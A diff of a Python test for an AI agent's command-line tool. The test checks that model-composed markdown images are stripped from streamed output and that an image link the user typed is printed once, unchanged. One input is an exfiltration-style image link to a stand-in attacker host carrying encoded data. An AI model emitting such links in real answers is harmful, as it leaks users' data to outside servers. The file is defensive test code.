@@ -143,15 +143,15 @@ def test_a_code_block_is_held_until_it_closes_and_a_blocked_one_is_never_shown(m
     assert code != 0  # the whole answer was blocked by the loop's own output check
 
 
-def test_a_composed_image_never_streams_and_one_the_user_gave_is_printed_once_checked(monkeypatch):
+def test_a_composed_image_never_streams_and_one_the_user_gave_streams_as_it_is(monkeypatch):
     code, shown, _ = _run_default_chain(monkeypatch, ["Here: ", "![p](https://evil.example/p.png?d=aGk) ", "Bye.\n"])
     assert code == 0 and "evil.example/p.png" not in shown and "[image removed: evil.example]" in shown
-    # The streamed segments have no run texts to compare with, so an address the user typed is shown
-    # removed while streaming; the loop's whole-answer check keeps it and the CLI prints that answer.
+    # The segments are checked with the prompt the run rendered, so an address the user typed is
+    # kept while streaming, as the loop's whole-answer check keeps it: shown once.
     mine = "![me](https://photos.example.com/ada.jpg)"
     out = _Watched()
     agent = Agent(_Script(out, ["Here: ", mine + "\n"]), format="llama3.2")
     monkeypatch.setattr(commands, "agent_from_args", lambda args: (None, agent))
     monkeypatch.setattr("sys.stdout", out)
     assert cli.main(["run", f"Show {mine}"]) == 0
-    assert out.getvalue().rstrip().endswith(mine)
+    assert out.getvalue() == f"Here: {mine}\n"
